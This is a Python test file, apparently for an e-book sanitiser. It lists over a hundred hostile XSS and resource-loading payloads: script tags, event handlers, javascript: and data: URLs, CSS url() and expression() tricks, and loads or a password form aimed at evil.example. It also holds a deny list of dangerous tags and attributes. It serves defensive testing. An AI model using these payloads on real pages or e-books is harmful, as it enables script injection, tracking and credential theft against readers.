"""Payloads of hostile e-books, and a judge of what is left of them."""

from __future__ import annotations

import re

from lxml import etree

from wenyuan.ingest.formats.sanitise import Kind, References, sanitise_chapter, sanitise_sheet

ENTRIES = {
    "OPS/one.xhtml": Kind.MARKUP,
    "OPS/text/two.xhtml": Kind.MARKUP,
    "OPS/圖/甲 乙.png": Kind.IMAGE,
    "OPS/p.png": Kind.IMAGE,
    "OPS/map.svg": Kind.DRAWING,
    "OPS/book.css": Kind.STYLE,
    "OPS/font.otf": Kind.FONT,
    "OPS/talk.mp3": Kind.SOUND,
    "OPS/film.mp4": Kind.FILM,
}
ELSEWHERE = "http://evil.example"
X = "http://www.w3.org/1999/xhtml"


def references() -> References:
    return References("OPS/one.xhtml", "OPS/one.xhtml", lambda path: (path, ENTRIES[path]) if path in ENTRIES else None)


def chapter(body: str, head: str = "") -> str:
    document = (
        f'<html xmlns="{X}" xmlns:epub="http://www.idpf.org/2007/ops" xmlns:xlink="http://www.w3.org/1999/xlink">'
        f"<head>{head}</head><body>{body}</body></html>"
    )
    return clean(document.encode())


def clean(document: bytes) -> str:
    return sanitise_chapter(document, references()).data.decode()


def style(text: str) -> str:
    return sanitise_sheet(text.encode(), references()).decode()


def assert_harmless(data: str) -> None:
    """Judged on the result alone, by rules of its own: nothing here is shared with the sanitiser."""
    root = etree.fromstring(data.encode())
    for element in root.iter():
        assert isinstance(element.tag, str), "comment, instruction or entity"
        name = element.tag.rpartition("}")[2].lower()
        assert name not in {
            "script", "iframe", "frame", "object", "embed", "applet", "base", "form", "input", "button", "textarea",
            "select", "option", "portal", "template", "noscript", "handler", "listener", "annotation-xml", "param",
        }  # fmt: skip
        for key, value in element.attrib.items():
            bare = key.rpartition("}")[2].lower()
            assert not bare.startswith("on"), key
            assert bare not in {
                "action",
                "formaction",
                "srcdoc",
                "ping",
                "http-equiv",
                "background",
                "autofocus",
                "manifest",
            }
            if bare in {"href", "src", "srcset", "poster", "data", "usemap", "cite", "longdesc"}:
                assert not re.match(
                    r"\s*(//|[\\/]|[a-z][a-z0-9+.-]*:(?!image/(png|jpeg|gif|webp);base64,))", value, re.IGNORECASE
                ), value
                assert "evil" not in value
            if bare == "style":
                assert_harmless_style(value)
        if name == "style":
            assert_harmless_style(element.text or "")


def assert_harmless_style(text: str) -> None:
    plain = re.sub(r"\\([0-9a-fA-F]{1,6})\s?", lambda hit: chr(int(hit[1], 16)), text).lower()
    for word in (
        "evil",
        "expression(",
        "behavior",
        "-moz-binding",
        "javascript:",
        "image-set",
        "</style",
        "src(",
        "paint(",
    ):
        assert word not in plain


PAYLOADS = [
    # scripts
    "<script>alert(1)</script>",
    '<script src="http://evil.example/x.js"></script>',
    '<script src="one.xhtml"/>',
    '<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>',
    "<SCRIPT>alert(1)</SCRIPT>",
    '<script xmlns="">alert(1)</script>',
    "<svg><script>alert(1)</script></svg>",
    '<svg><script xlink:href="http://evil.example/x.js"/></svg>',
    '<svg><s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script></svg>',
    '<svg><foreignObject><h:body xmlns:h="http://www.w3.org/1999/xhtml" onload="alert(1)"/></foreignObject></svg>',
    '<svg><foreignObject><h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script></foreignObject></svg>',
    '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">x</handler></svg>',
    '<math><annotation-xml encoding="text/html"><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script></annotation-xml></math>',
    '<math><maction actiontype="statusline" href="javascript:alert(1)">x</maction></math>',
    '<math href="javascript:alert(1)"><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "<template><script>alert(1)</script></template>",
    "<noscript><img src='x' onerror='alert(1)'/></noscript>",
    # event handlers
    '<p onclick="alert(1)">x</p>',
    '<img src="p.png" onerror="alert(1)" onload="alert(1)"/>',
    '<p ONMOUSEOVER="alert(1)">x</p>',
    '<svg onload="alert(1)"/>',
    '<details ontoggle="alert(1)" open="">x</details>',
    '<video src="film.mp4" onerror="alert(1)" autoplay=""/>',
    '<svg><animate onbegin="alert(1)" attributeName="x"/></svg>',
    '<svg><a><set attributeName="href" to="javascript:alert(1)"/><text>x</text></a></svg>',
    '<svg><a><animate attributeName="xlink:href" values="javascript:alert(1)"/></a></svg>',
    '<svg><set attributeName="onclick" to="alert(1)"/></svg>',
    '<svg><animate attributeName="style" values="background:url(http://evil.example)"/></svg>',
    '<svg><image><set attributeName=" href " to="http://evil.example/"/></image></svg>',
    '<svg><set attributeName="fill" to="url(http://evil.example/#x)"/></svg>',
    # addresses
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" JaVaScRiPt:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="java&#9;script&#58;alert(1)">x</a>',
    '<a href="&#1;javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="blob:http://evil.example/1">x</a>',
    '<a href="//evil.example/">x</a>',
    '<a href="\\\\evil.example\\x">x</a>',
    '<a href="/\\evil.example/">x</a>',
    '<a href="http&#58;//evil.example/">x</a>',
    '<a href="../../../../etc/passwd">x</a>',
    '<a href="one.xhtml" ping="http://evil.example/">x</a>',
    '<img src="http://evil.example/x.png"/>',
    '<img src="//evil.example/x.png"/>',
    '<img src="https:evil.example/x.png"/>',
    '<img src="data:image/svg+xml,&lt;svg onload=alert(1)&gt;"/>',
    '<img src="data:text/html;base64,PHNjcmlwdD4="/>',
    '<img srcset="http://evil.example/x.png 2x, p.png 1x"/>',
    '<img src="p.png" lowsrc="http://evil.example/" longdesc="http://evil.example/" dynsrc="http://evil.example/"/>',
    '<video src="http://evil.example/x.mp4" poster="http://evil.example/x.png"/>',
    '<audio><source src="http://evil.example/x.mp3"/></audio>',
    '<video><track src="http://evil.example/x.vtt"/></video>',
    '<table background="http://evil.example/x.png"><tr><td background="http://evil.example/">x</td></tr></table>',
    '<blockquote cite="http://evil.example/">x</blockquote>',
    '<svg><image xlink:href="http://evil.example/x.png"/></svg>',
    '<svg><image href="data:image/svg+xml;base64,PHN2Zz4="/></svg>',
    '<svg><use href="http://evil.example/x.svg#a"/></svg>',
    '<svg><use xlink:href="data:image/svg+xml,x#a"/></svg>',
    '<svg><use href="one.xhtml#a"/></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><filter><feImage href="http://evil.example/x.png"/></filter></svg>',
    '<svg><rect fill="url(http://evil.example/x.svg#a)"/></svg>',
    '<svg><rect clip-path="u\\72l(http://evil.example/x.svg#a)"/></svg>',
    '<svg><linearGradient href="http://evil.example/x.svg#a"/></svg>',
    '<svg xml:base="http://evil.example/"><image href="p.png"/></svg>',
    # embedding and sending
    '<iframe src="http://evil.example/"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<object data="http://evil.example/x.swf">x</object>',
    '<object data="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">x</object>',
    '<object><param name="movie" value="http://evil.example/x.swf"/></object>',
    '<embed src="http://evil.example/x.swf"/>',
    '<applet code="Evil.class" codebase="http://evil.example/"></applet>',
    '<form action="http://evil.example/"><p>x</p><input name="password" autofocus="" onfocus="alert(1)"/></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<input type="image" src="http://evil.example/x.png"/>',
    "<select><option>x</option></select><textarea>x</textarea>",
    '<base href="http://evil.example/"/>',
    '<meta http-equiv="refresh" content="0;url=http://evil.example/"/>',
    '<link rel="stylesheet" href="http://evil.example/x.css"/>',
    '<link rel="prefetch" href="http://evil.example/"/>',
    '<portal src="http://evil.example/"/>',
    '<frameset><frame src="http://evil.example/"/></frameset>',
    '<bgsound src="http://evil.example/x.wav"/>',
    # styles
    '<p style="background:url(http://evil.example/x.png)">x</p>',
    '<p style="background:url(//evil.example/x.png)">x</p>',
    "<p style=\"background:\\75\\72\\6c('http://evil.example/x.png')\">x</p>",
    '<p style="width:expression(alert(1))">x</p>',
    '<p style="behavior:url(p.png)">x</p>',
    '<p style="-moz-binding:url(http://evil.example/x.xml#a)">x</p>',
    "<p style=\"background:image-set('http://evil.example/x.png' 1x)\">x</p>",
    '<p style="background:-webkit-image-set(url(http://evil.example/x.png) 1x)">x</p>',
    '<p style="--a:url(http://evil.example/x.png);background:var(--a)">x</p>',
    "<p style=\"background:src('http://evil.example/x.png')\">x</p>",
    '<p style="background:paint(evil)">x</p>',
    '<p style="list-style:url(data:image/svg+xml,x-evil)">x</p>',
    '<style>@import "http://evil.example/x.css";</style>',
    "<style>@import url(//evil.example/x.css);</style>",
    "<style>p{background:url('http://evil.example/x.png')}</style>",
    "<style>@font-face{font-family:a;src:url(http://evil.example/x.woff)}</style>",
    "<style>@media screen{p{cursor:url(http://evil.example/x.cur),auto}}</style>",
    "<style>@supports (x:url(http://evil.example/)){p{color:red}}</style>",
    "<style>p{content:'&lt;/style>&lt;script>alert(1)&lt;/script>'}</style>",
    '<svg><style>@import "http://evil.example/x.css";rect{fill:red}</style></svg>',
    # mutation, on the way through a parser of HTML
    "<math><mtext><mglyph><style><![CDATA[</style><img src=x onerror=alert(1)>]]></style></mglyph></mtext></math>",
    '<svg><desc><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script></desc></svg>',
    "<xmp><![CDATA[<script>alert(1)</script>]]></xmp>",
    "<p><![CDATA[<script>alert(1)</script>]]></p>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<?xml-stylesheet href='http://evil.example/x.css'?>",
]
"""`svg` and `math` get their namespaces below."""
HOSTILE = [
    payload.replace("<svg", '<svg xmlns="http://www.w3.org/2000/svg"').replace(
        "<math", '<math xmlns="http://www.w3.org/1998/Math/MathML"'
    )
    for payload in PAYLOADS
]
